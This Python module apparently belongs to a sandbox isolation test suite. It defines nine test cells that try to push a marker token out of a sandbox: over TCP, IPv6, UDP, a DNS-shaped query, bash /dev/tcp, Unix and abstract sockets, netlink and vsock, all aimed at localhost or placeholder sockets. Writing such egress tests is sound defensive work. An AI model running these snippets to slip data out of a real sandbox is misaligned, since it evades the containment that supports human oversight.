"""Data sent out over a network or to a socket of the host."""

from attacks.model import Attack, arrived, first, shows


def _sent(how: str) -> dict[str, str]:
    return first(
        f"import socket\nhello = b'<@ID@>'\ntry:\n    {how}\nexcept Exception as error: print(type(error))"
    )


def _stream(family: str, address: str) -> dict[str, str]:
    return _sent(
        f"s = socket.socket(socket.{family}); s.settimeout(2); s.connect({address}); s.sendall(hello); s.close()"
    )


ATTACKS = (
    Attack(
        "tcp",
        "TCPで送る",
        "send by TCP",
        arrived,
        plain=True,
        cells=_stream("AF_INET", "('127.0.0.1', @TCP@)"),
    ),
    Attack(
        "tcp6",
        "IPv6のTCPで送る",
        "send by TCP over IPv6",
        arrived,
        plain=None,
        cells=_stream("AF_INET6", "('::1', @TCP6@)"),
    ),
    Attack(
        "udp",
        "UDPで送る",
        "send by UDP",
        arrived,
        plain=True,
        cells=_sent(
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(hello, ('127.0.0.1', @UDP@))"
        ),
    ),
    Attack(
        "dns",
        "名前の問い合わせに見せて送る",
        "hide the message in a query for a name",
        arrived,
        plain=True,
        cells=_sent(
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
            "b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + bytes([len(hello)]) + hello"
            " + b'\\x00\\x00\\x10\\x00\\x01', ('127.0.0.1', @UDP@))"
        ),
    ),
    Attack(
        "by-shell",
        "シェルに送らせる",
        "let a shell send",
        arrived,
        plain=True,
        cells=_sent(
            "import subprocess; subprocess.run(['bash', '-c', 'echo \"<@ID@>\" > /dev/tcp/127.0.0.1/@TCP@'], timeout=3)"
        ),
    ),
    Attack(
        "unix-socket",
        "ホストのUnixソケットに送る",
        "send to a Unix socket of the host",
        arrived,
        plain=True,
        cells=_stream("AF_UNIX", "'@SOCKET@'"),
    ),
    Attack(
        "abstract-socket",
        "名前だけのUnixソケットに送る",
        "send to an abstract Unix socket of the host",
        arrived,
        plain=True,
        cells=_stream("AF_UNIX", "'\\0@ABSTRACT@'"),
    ),
    Attack(
        "netlink",
        "netlinkでホストの通信機器の一覧を得る",
        "list the host's network interfaces by netlink",
        shows("links-of-host"),
        plain=None,
        cells=_sent(
            "import struct; s = socket.socket(16, 3, 0); s.settimeout(2); s.bind((0, 0)); "
            "s.send(struct.pack('=IHHIIBxxx', 20, 18, 0x301, 1, 0, 0)); data = s.recv(65536) + s.recv(65536); "
            "print('links-of-host' if any(n and n.encode() in data for n in '@LINKS@'.split(',')) else len(data))"
        ),
    ),
    Attack(
        "vsock",
        "仮想機械の外へ出るソケットを開く",
        "open a socket that leads out of the virtual machine",
        shows("vsock-open"),
        plain=None,
        cells=_sent("s = socket.socket(40, socket.SOCK_STREAM); print('vsock-open'); s.close()"),
    ),
)
